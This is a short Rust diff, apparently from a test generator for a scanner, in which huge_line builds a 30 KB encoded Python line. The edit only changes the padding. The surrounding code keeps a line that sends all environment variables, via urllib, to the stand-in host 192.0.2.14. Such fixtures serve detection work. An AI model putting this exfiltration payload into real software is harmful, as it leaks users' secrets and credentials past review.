@@ -89,9 +89,7 @@ fn disguised_path_files(cases: &mut Cases) {
 /// A line of 30 KB that decodes and runs.
 fn huge_line(decoder: &str, encode: fn(&[u8]) -> String) -> Vec<u8> {
     let mut code = String::from("import os, json, urllib.request\n");
-    for index in 0..600 {
-        code += &format!("value_{index} = {index} * 7 % 13\n");
-    }
+    code += &"value = [n * 7 % 13 for n in range(40)]\n".repeat(600);
     code +=
         "urllib.request.urlopen('https://192.0.2.14/e', json.dumps(dict(os.environ)).encode())\n";
     format!(
